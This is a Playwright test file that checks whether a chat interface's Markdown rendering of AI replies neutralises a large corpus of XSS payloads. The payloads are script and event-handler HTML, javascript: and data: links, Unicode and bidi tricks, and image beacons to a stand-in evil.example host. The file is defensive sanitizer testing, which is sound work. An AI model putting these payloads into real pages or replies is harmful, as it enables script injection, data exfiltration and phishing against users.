import type { Page } from '@playwright/test'
import { expect, test } from './fixtures/test.ts'

// What a model could be talked into writing to have a page run it, ask a server for it, or lead people astray by it.
const corpus: Record<string, readonly string[]> = {
  'written as HTML': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script\n>alert(1)</script\n>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src="https://evil.example/p.png"/onerror=alert(1)//',
    '<img src="https://evil.example/?q=secret" srcset="https://evil.example/2x 2x">',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></use></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<link rel=prefetch href=https://evil.example><link rel=dns-prefetch href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example)}</style>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<form action=https://evil.example><input name=q autofocus onfocus=alert(1)><button>x</button></form>',
    '<video src=https://evil.example/v poster=https://evil.example/p onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1) autoplay>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
    '<br onclick=alert(1)><br/onmouseover=alert(1)><br\n>',
    '<a href="javascript:alert(1)">x</a><a href=https://evil.example ping=https://evil.example>y</a>',
    '<template><img src=x onerror=alert(1)></template><noscript><img src=x onerror=alert(1)></noscript>',
    '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?php alert(1) ?>',
    '<x-element onpointerenter=alert(1) is="evil">x</x-element>',
  ],
  'written as a link': [
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](&#x6A;&#x61;&#x76;&#x61;script:alert(1))',
    '[a](java&#115;cript&#0058;alert&lpar;1&rpar;)',
    '[a](<java\tscript:alert(1)>)',
    '[a](<&#x0A;javascript:alert(1)>)',
    '[a](java&NewLine;script:alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](\u0001javascript:alert(1))',
    '[a](\u00a0javascript:alert(1))',
    '[a](\u200bjavascript:alert(1))',
    '[a](javascript\\:alert(1))',
    '[a](javascript%3Aalert(1))',
    '[a](ｊavascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](DATA:image/svg+xml,<svg/onload=alert(1)>)',
    '[a](vbscript:msgbox(1)) [b](livescript:alert(1)) [c](mocha:alert(1))',
    '[a](file:///etc/passwd) [b](blob:https://evil.example/1) [c](filesystem:https://evil.example/1)',
    '[a](view-source:https://evil.example) [b](about:blank) [c](intent://x#Intent;end) [d](ms-word:x)',
    '[a](//evil.example) [b](\\\\evil.example) [c](/\\evil.example) [d](https:evil.example)',
    '[a](/sign-out) [b](#x) [c](?q) [d](.)',
    '[a](https://evil.example/"onmouseover="alert(1))',
    '[a](https://evil.example "x\\" onload=alert(1) y=\\"")',
    '[a](https://bank.example@evil.example/) [https://bank.example](https://evil.example)',
    '[a](mailto:x@evil.example?body=%0d%0aBcc:y@evil.example)',
    '[a]: javascript:alert(1)\n\n[a] [a][] [b][a]',
    '[a][b]\n\n[b]: data:text/html,<script>alert(1)</script> "t"',
    '[a][b]\n\n[b]: <javascript:alert(1)>\n"title\nover lines"',
    '[__proto__] [constructor] [toString][hasOwnProperty]\n\n[__proto__]: javascript:alert(1)',
    '<javascript:alert(1)> <data:text/html,x> <vbscript:x> <JAVASCRIPT:alert(1)>',
    'javascript:alert(1) javascript://example.com/%0aalert(1) data://x vbscript://x //evil.example',
    'https://evil.example/<script>alert(1)</script> https://evil.example/"onclick=alert(1)',
    '[<img src=x onerror=alert(1)>](https://evil.example) [`<script>`](javascript:alert(1))',
  ],
  'written as an image': [
    '![a](https://evil.example/?q=secret)',
    '![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![a](x "y" onerror=alert(1)) ![b](x" onerror="alert(1))',
    '[![a](https://evil.example/b.png)](javascript:alert(1))',
    '![a][b]\n\n[b]: https://evil.example/tracker.gif "t"',
    '![`<img src=x onerror=alert(1)>`](https://evil.example)',
    '![![a](https://evil.example/1)](https://evil.example/2)',
  ],
  'inside other blocks': [
    '- [x] <img src=x onerror=alert(1)>\n- [a](javascript:alert(1))\n  > <script>alert(1)</script>\n',
    '> [a](javascript:alert(1))\n> <iframe src=https://evil.example>\n\n1. <svg onload=alert(1)>\n',
    '| <b onclick=alert(1)>a</b> | b |\n|:--:|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n',
    '| a |\n|---|\n| ![x](https://evil.example/\\|y) `<img src=x onerror=alert(1)>` |\n',
    '```html\n<script>alert(1)</script>\n```\n',
    '```"onload="alert(1)\n</code></pre><script>alert(1)</script>\n```\n',
    '```<img/src=x/onerror=alert(1)>\nx\n```\n\n~~~ __proto__\nx\n~~~\n',
    '    <script>alert(1)</script>\n\n# <img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>\n===\n',
    '`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``',
    '**<img src=x onerror=alert(1)>** ~~[a](javascript:alert(1))~~ *<a href=javascript:alert(1)>x*',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; \\<script\\>',
    '$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x}$$ $\\htmlClass{x}{y}$',
    '$\\text{<img src=x onerror=alert(1)>}$ $\\color{red}\\rule{900em}{900em}$ $\\ref{javascript:alert(1)} \\label{x}$ $\\def\\a{\\a\\a}\\a$',
    '$$\n\\style{position:fixed}{x} \\class{btn}{y} \\id{message}{z}\n$$\n\n$$\n\\boxed{x} \\begin{array}{c|c}a&b\\end{array}\n$$',
    '[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))\n\nText[^1] and [^<script>].',
  ],
  'tricks of Unicode': [
    '<scr\0ipt>alert(1)</scr\0ipt> <\0img src=x onerror=alert(1)>',
    '＜script＞alert(1)＜/script＞ ﹤img src=x onerror=alert(1)﹥',
    '\u202e<script>alert(1)</script>\u202c \u2066[a](javascript:alert(1))\u2069',
    '[\u202egro.elpmaxe](https://evil.example) [аррӏе.example](https://xn--80ak6aa92e.example)',
    '\ufeff<script>alert(1)</script> \u2028<img src=x onerror=alert(1)>\u2029',
    '\ud83d<img src=x onerror=alert(1)>\ude00 ["\ud800](javascript:alert(1))',
    '<ſcript>alert(1)</ſcript> <ıframe src=https://evil.example>',
  ],
}

// All that a reply may be drawn with, formulas last.
const elements = [
  'p h1 h2 h3 h4 h5 h6 blockquote ul ol li hr br strong em del span a div table thead tbody tr th td sup',
  'code figure figcaption pre button svg rect path',
  'math mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle msub msubsup',
  'msup mtable mtd mtext mtr munder munderover none',
].join(' ')
const attributes = [
  'dir class start scope tabindex role aria-label aria-hidden title href target rel type',
  'data-host data-language data-copy data-footnote data-label data-back data-tex viewBox x y width height rx d',
  'accent accentunder depth display displaystyle fence form largeop linethickness lspace mathvariant maxsize minsize',
  'movablelimits rspace scriptlevel separator stretchy symmetric voffset',
].join(' ')

/** Notes whatever is drawn in the conversation and may not be, at the moment it is, and whatever runs. */
async function watchConversation(page: Page): Promise<void> {
  await page.evaluate(
    ([allowedElements = '', allowedAttributes = '']) => {
      const harm: string[] = []
      Object.assign(globalThis, { harm })
      for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
        Object.assign(globalThis, { [name]: () => void harm.push(`ran ${name}`) })
      }
      const tags = new Set(allowedElements.split(' '))
      const names = new Set(allowedAttributes.split(' '))
      const check = (element: Element) => {
        if (!tags.has(element.localName)) harm.push(`drew ${element.outerHTML}`)
        for (const { name, value } of element.attributes) {
          if (!names.has(name)) harm.push(`gave ${element.localName} ${name}="${value}"`)
          if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) harm.push(`leads to ${value}`)
        }
      }
      const observer = new MutationObserver((records) => {
        for (const { target, addedNodes } of records) {
          for (const node of [target, ...addedNodes]) {
            if (!(node instanceof Element) || !node.closest('.prose')) continue
            if (!node.matches('.prose')) check(node)
            if (node !== target) node.querySelectorAll('*').forEach(check)
          }
        }
      })
      observer.observe(document.body, { subtree: true, childList: true, attributes: true })
    },
    [elements, attributes],
  )
}

for (const [kind, vectors] of Object.entries(corpus)) {
  test(`what means harm and is ${kind} is nothing but words, however it is cut on its way`, async ({
    chat,
    upstream,
  }) => {
    test.setTimeout(120_000)
    await watchConversation(chat.page)
    for (const [index, vector] of vectors.entries()) {
      const question = `torn: ${kind} ${index}`
      upstream.answer(question, `Look.\n\n${vector}\n\nThat was number ${index}.`)
      await chat.ask(question)
      await expect(chat.reply.locator('.prose')).toContainText(`That was number ${index}.`)
      await chat.toBe('idle')
    }
    expect(await chat.page.evaluate(() => Reflect.get(globalThis, 'harm'))).toEqual([])
    expect(chat.page.url()).not.toContain('evil')
  })
}

test('characters that reverse the text reverse nothing beyond the block they are in', async ({
  chat,
  upstream,
}) => {
  const reversed = '\u202eone two'
  const blocks = [
    `${reversed}`,
    'plain words',
    `- ${reversed}\n- plain words`,
    `| ${reversed} | plain words |\n|---|---|`,
  ]
  upstream.answer('torn: which way?', `${blocks.join('\n\n')}\n\nThat is all.`)
  await chat.askAndRead('torn: which way?')
  await expect(chat.reply.locator('th')).toHaveCount(2)
  const directions = await chat.reply.locator('.prose :is(p, li, th)').evaluateAll((drawn) =>
    drawn.map((element) => {
      const text = element.firstChild
      const range = document.createRange()
      const leftOf = (index: number) => {
        if (text) range.setStart(text, index)
        if (text) range.setEnd(text, index + 1)
        return range.getBoundingClientRect().left
      }
      return leftOf(2) < leftOf(3) ? 'forward' : 'backward'
    }),
  )
  expect(directions).toEqual(['backward', 'forward', 'backward', 'forward', 'backward', 'forward', 'forward'])
})
